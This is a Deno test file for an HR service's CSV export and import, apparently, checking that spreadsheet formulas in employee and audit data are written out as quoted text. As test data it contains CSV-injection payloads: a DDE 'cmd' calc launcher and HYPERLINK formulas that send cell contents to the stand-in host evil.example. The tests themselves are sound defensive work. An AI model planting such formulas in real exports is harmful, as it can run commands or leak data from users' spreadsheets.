/**
 * Spreadsheet formulas in the CSV files the service writes (OWASP "CSV Injection"): a cell that starts with
 * `=`, `+`, `-`, `@`, a tab or a carriage return is written as text (a single quote in front, quoted), plain
 * numbers stay numbers, and `employees import` reads the export back exactly as it was.
 */
import assert from "node:assert/strict";
import { eq } from "drizzle-orm";
import { makeTestApp } from "../_helpers.ts";
import { cli } from "../_cli.ts";
import { employees, mcpAudit } from "../../src/db/schema/mod.ts";
import { parseCsv, toCsv, unneutralizeCell } from "../../src/csv.ts";
import { registerClient } from "../oauth/_helpers.ts";

const DDE = "=1+1+cmd|' /C calc'!A0";

Deno.test("csv injection: every formula start is written as quoted text; plain numbers are not", () => {
  const cells = [
    "=SUM(A1:A9)",
    "+41 79 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "'t Hooft",
    "-3.5",
    -3.5,
    "42",
    "a;=1+1",
    "Dubois, fils",
  ];
  assert.equal(
    toCsv([cells]),
    [
      `"'=SUM(A1:A9)"`,
      `"'+41 79 123 45 67"`,
      `"'-2+3+cmd|' /C calc'!A0"`,
      `"'@SUM(A1)"`,
      `"'\t=1+1"`,
      `"'\r=1+1"`,
      `"''=1+1"`,
      `'t Hooft`,
      `-3.5`,
      `-3.5`,
      `42`,
      `"a;=1+1"`,
      `"Dubois, fils"`,
    ].join(",") + "\r\n",
  );
  // Read back and with the added quote dropped, each cell is what was written.
  assert.deepEqual(
    parseCsv(toCsv([cells]))[0].cells.map(unneutralizeCell),
    cells.map(String),
  );
});

Deno.test("csv injection: employees export writes names typed as formulas as text, and imports back the same", async () => {
  const t = await makeTestApp({ demo: false });
  try {
    const r = await cli(
      t,
      ["employees", "import", "--file", "-"],
      [
        "personnel_number,first_name,last_name,phone,department,job_title,canton,employment_start",
        `P1,"${DDE.replaceAll('"', '""')}",@SUM(A1),+41 79 123 45 67,-Sales,'=x,BE,2024-01-01`,
        "P2,Anna,Meier,,Ops,Clerk,ZH,2024-02-01",
      ].join("\n"),
    );
    assert.equal(r.code, 0, r.err);
    const p1 = await t.deps.db.query.employees.findFirst({ where: eq(employees.personnelNumber, "P1") });
    // A file written by hand with a quote in front of a formula: the quote is not part of the value.
    assert.equal(p1?.jobTitle, "=x");
    // What a hired applicant's or a console user's name is stored as.
    await t.deps.db.update(employees).set({ lastName: '=HYPERLINK("https://evil.example")' })
      .where(eq(employees.personnelNumber, "P2"));

    const exp = await cli(t, ["employees", "export"]);
    assert.equal(exp.code, 0, exp.err);
    const lines = exp.out.split("\r\n");
    assert.ok(
      lines[1].startsWith(`P1,"'=1+1+cmd|' /C calc'!A0","'@SUM(A1)",,"'+41 79 123 45 67",BE,`),
      lines[1],
    );
    assert.ok(lines[1].includes(`,"'-Sales","'=x",`), lines[1]);
    assert.match(lines[2], /^P2,Anna,"'=HYPERLINK\(""https:\/\/evil\.example""\)",/);
    for (const row of parseCsv(exp.out).slice(1)) {
      for (const cell of row.cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${cell}`);
    }

    // Import of the export: nothing changes, and the next export is byte for byte the same.
    const back = await cli(t, ["employees", "import", "--file", "-"], exp.out);
    assert.equal(back.code, 0, back.err);
    assert.match(back.out, /0 added, 2 updated/);
    const again = await t.deps.db.query.employees.findFirst({ where: eq(employees.personnelNumber, "P1") });
    assert.equal(again?.firstName, DDE);
    assert.equal(again?.lastName, "@SUM(A1)");
    assert.equal(again?.phone, "+41 79 123 45 67");
    assert.equal(again?.jobTitle, "=x");
    assert.equal((await cli(t, ["employees", "export"])).out, exp.out);
  } finally {
    t.close();
  }
});

Deno.test("csv injection: audit export writes an assistant registered as a formula as text", async () => {
  const t = await makeTestApp({ demo: false, env: { FEATURE_MCP_CONNECTOR: "true" } });
  try {
    const evil = `=HYPERLINK("https://evil.example/?d="&A2,"Open")`;
    const clientId = await registerClient(
      (url, init) => t.request(url, init),
      "http://localhost",
      { client_name: evil },
    );
    await t.deps.db.insert(mcpAudit).values({
      createdAt: t.clock.now(),
      clientId,
      kind: "tool",
      name: "whoami",
      argumentNames: "[]",
      recordsTouched: "[]",
      resultCount: 0,
      outcome: "ok",
    });
    const r = await cli(t, ["audit", "export"]);
    assert.equal(r.code, 0, r.err);
    const row = r.out.split("\r\n")[1];
    assert.ok(
      row.includes(`,"'=HYPERLINK(""https://evil.example/?d=""&A2,""Open"")",${clientId},`),
      row,
    );
    assert.equal(parseCsv(r.out)[1].cells[1], `'${evil}`);
  } finally {
    t.close();
  }
});
